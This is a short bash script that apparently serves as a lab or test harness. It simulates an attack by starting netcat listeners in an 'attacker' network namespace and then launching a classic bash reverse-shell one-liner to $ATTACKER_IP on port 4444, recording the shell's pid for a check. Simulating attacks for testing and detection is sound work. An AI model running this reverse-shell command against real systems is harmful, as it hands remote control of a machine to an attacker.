#!/usr/bin/env bash
# The attacker listens on 4444 (and 4445, for the call-back check); a compromised process on the
# target runs the classic one-liner. The shell's pid goes to $STATE/shell.pid.
set -u
for port in 4444 4445; do
  ip netns exec attacker bash -c "sleep 600 | nc -l $port >>$STATE/listener.$port.log 2>&1" &
done
# Wait for the listener (poll, with a deadline).
for _ in $(seq 40); do
  ip netns exec attacker ss -ltn | grep -q ':4444 ' && break
  sleep 0.25
done
setsid bash -c "bash -i >& /dev/tcp/$ATTACKER_IP/4444 0>&1" </dev/null >/dev/null 2>&1 &
echo $! >"$STATE/shell.pid"
echo "reverse shell pid $(cat "$STATE/shell.pid") → $ATTACKER_IP:4444"
